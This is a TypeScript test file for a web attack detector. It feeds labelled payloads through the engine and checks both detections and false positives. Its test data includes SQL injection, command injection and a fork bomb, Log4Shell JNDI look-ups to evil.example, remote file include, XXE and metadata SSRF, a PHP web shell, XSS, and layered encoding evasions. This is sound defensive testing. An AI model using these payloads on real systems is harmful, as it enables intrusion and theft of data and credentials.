import { describe, expect, test } from 'vitest';
import { requiredLiterals } from '../../../server/engine/threat/sigma/literals/required-literals.ts';
import { decodeValue } from '../../../server/engine/threat/web/request/decode.ts';
import { loadWebKnowledge } from '../../../server/engine/threat/web/web-knowledge.ts';
import { createRandom } from '../../support/logs/random.ts';
import { benignRequest } from '../../support/logs/requests.ts';
import { detectWeb, guardPack, readEvents } from '../../support/threat-engine.ts';

const hits = (text: string) =>
  readEvents(text)
    .flatMap(detectWeb)
    .map((hit) => hit.id);
const get = (value: string) => hits(`GET /page?x=${encodeURIComponent(value)} HTTP/1.1`);

test.each<[payload: string, family: string]>([
  ["1' UNION SELECT user, password FROM users-- -", 'web-sqli-union'],
  ["admin' or '1'='1", 'web-sqli-tautology'],
  ['1; DROP TABLE users', 'web-sqli-stacked'],
  ['1 AND SLEEP(5)', 'web-sqli-blind'],
  ['un/**/ion/**/select 1,2,3', 'web-sqli-union'],
  ['{"$ne": null}', 'web-nosql-operator'],
  ['; cat /etc/passwd', 'web-rce-unix-chain'],
  ['$(id)', 'web-rce-expansion'],
  ["c'a't /e?c/p*d;ls", 'web-rce'],
  ['| powershell -enc AAAA', 'web-rce-powershell'],
  ['& net user x y /add', 'web-rce-windows'],
  ['{{7*7}}', 'web-ssti-template'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this text
  ['${jndi:ldap://1.2.3.4/a}', 'web-java-log4shell'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this text
  ['${${lower:j}ndi:rmi://x/a}', 'web-java-log4shell'],
  ['*)(uid=*))(|(uid=*', 'web-ldap-filter'],
  ["' or count(/*)=1 or 'a'='b", 'web-'],
  ['../../../../etc/passwd', 'web-lfi-traversal'],
  ['..%c0%af..%c0%afetc/passwd', 'web-lfi'],
  ['php://filter/convert.base64-encode/resource=index', 'web-php-tag'],
  ['http://203.0.113.9/shell.txt?', 'web-rfi-include'],
  ['<script>alert(1)</script>', 'web-xss-tag'],
  ['"><img src=x onerror=alert(1)>', 'web-xss'],
  ['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', 'web-xxe-entity'],
  ['http://169.254.169.254/latest/meta-data/', 'web-ssrf-metadata'],
  ['http://localhost:8080/admin', 'web-ssrf-internal'],
  ['ldap://10.0.0.3:389/dc=x', 'web-ssrf-internal'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this text
  ['${phpinfo()}', 'web-php-variable'],
  ['rO0ABXNyABdqYXZhLnV0aWw', 'web-java-serialised'],
  ['O:8:"stdClass":1:{s:1:"a";i:1;}', 'web-php-object'],
  ['<?php system($_GET[0]); ?>', 'web-php-tag'],
  ['constructor[prototype][x]', 'web-ssti-prototype'],
  ['x; exec xp_cmdshell("dir")', 'web-sqli-stacked'],
  ["1' IN (SELECT 1)", 'web-sqli'],
  ['Stop-Process -Name av', 'web-rce-powershell'],
  ['if %1==x del y', 'web-rce-batch'],
  ['f(){ f|f& };f', 'web-rce-unix-chain'],
  ['kubectl exec -it pod', 'web-rce-history'],
  ['http://169。254。169。254/', 'web-ssrf'],
  ['jar:http://evil.example/a.zip!/b', 'web-ssrf-internal'],
  ['<esi:include src="http://evil.example/"/>', 'web-xxe-entity'],
  [`x ${Buffer.from('<script>alert(1)</script>').toString('base64')} y`, 'web-xss-tag'],
])('%s', (payload, family) => {
  expect(get(payload).some((id) => id.startsWith(family))).toBe(true);
});

describe('layers', () => {
  const payload = "<script>alert('x')</script>";
  const percent = (text: string) =>
    [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
  const base64 = (text: string) => Buffer.from(text).toString('base64');
  const thrice = (text: string) => encodeURIComponent(base64(base64(base64(text))));
  test.each<[name: string, encoded: string]>([
    ['percent', percent(payload)],
    ['percent twice', encodeURIComponent(percent(payload))],
    ['percent three times', encodeURIComponent(encodeURIComponent(percent(payload)))],
    ['HTML', encodeURIComponent([...payload].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join(''))],
    ['%u', [...payload].map((c) => `%u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')],
    [
      '\\u',
      encodeURIComponent(
        [...payload].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
      ),
    ],
    [
      'full width',
      encodeURIComponent([...payload].map((c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)).join('')),
    ],
    ['base64', Buffer.from(payload).toString('base64')],
    ['base64 three times', thrice(payload)],
  ])('%s', (_, encoded) => {
    expect(hits(`GET /?x=${encoded} HTTP/1.1`)).toContain('web-xss-tag');
  });

  test('a decoding bomb stays small', () => {
    let text = '%41';
    for (let i = 0; i < 40; i += 1) text = text.replaceAll('%', '%25');
    expect(decodeValue(text, true).text.length).toBeLessThanOrEqual(text.length);
  });
});

test('bodies: form, JSON, XML and multipart are taken apart', () => {
  const post = (type: string, body: string) =>
    hits(`POST /a HTTP/1.1\r\nHost: h\r\nContent-Type: ${type}\r\n\r\n${body}`);
  expect(post('application/x-www-form-urlencoded', 'a=1&b=%27+or+1%3D1--')).toContain('web-sqli-tautology');
  expect(post('application/json', JSON.stringify({ a: { b: ['x', '; cat /etc/passwd'] } }))).toContain(
    'web-rce-unix-chain',
  );
  expect(post('application/xml', '<a><b>../../etc/passwd</b></a>')).toContain('web-lfi-traversal');
  expect(
    post(
      'multipart/form-data; boundary=q',
      '--q\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\nx\r\n--q--',
    ),
  ).toContain('web-php-upload');
});

test('every expression has a literal to wait for: none runs on every value', async () => {
  const { signatures } = await loadWebKnowledge({ folder: guardPack });
  const open = signatures.flatMap((signature) =>
    signature.patterns.filter((pattern) => requiredLiterals(pattern) === null),
  );
  expect(open).toEqual([]);
});

test.each([
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this text
  '${jndi:ldap://evil.example/a}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is this text
  '${${lower:j}ndi:rmi://evil.example/a}',
])('a JNDI look-up is no internal address and no PHP: %s', (payload) => {
  const found = get(payload);
  expect(found).toContain('web-java-log4shell');
  expect(found.filter((id) => /^web-(?:ssrf|php)/.test(id))).toEqual([]);
});

test.each<[name: string, request: string, id: string]>([
  ['a host that is an address', 'GET / HTTP/1.1\r\nHost: 203.0.113.7\r\n\r\n', 'web-protocol-host'],
  ['a body in a GET', 'GET / HTTP/1.1\r\nHost: h\r\nContent-Length: 3\r\n\r\na=b', 'web-protocol-body'],
  [
    'broken percent encoding in a form',
    'POST / HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\na=%1G',
    'web-protocol-body-encoding',
  ],
  ['overlong bytes', 'GET /?a=b%c0%afc HTTP/1.1', 'web-protocol-encoding'],
  ['a name of 120 letters', `GET /?${'a'.repeat(120)}=1 HTTP/1.1`, 'web-protocol-size'],
])('protocol: %s', (_, request, id) => {
  expect(hits(request)).toContain(id);
});

test('ordinary requests of many applications say nothing', () => {
  const random = createRandom(41);
  const requests = Array.from({ length: 600 }, () => benignRequest(random));
  const flagged = requests.filter((request) => hits(request).some((id) => id !== 'web-shell-command'));
  expect(flagged).toEqual([]);
});

test.each([
  '/search?q=select+the+best+coffee+from+Ipoh',
  '/search?q=union+select+committee',
  "/search?q=o'reilly+and+sons",
  '/search?q=rock+%26+roll',
  '/a?redirect=https%3A%2F%2Fwww.example.com%2Fpage%3Fa%3D1',
  '/a?filter[date]=2025-01-01&sort=-id',
  '/index.php?page=2',
  '/.well-known/acme-challenge/x',
])('ordinary: %s', (uri) => {
  expect(hits(`GET ${uri} HTTP/1.1`)).toEqual([]);
});
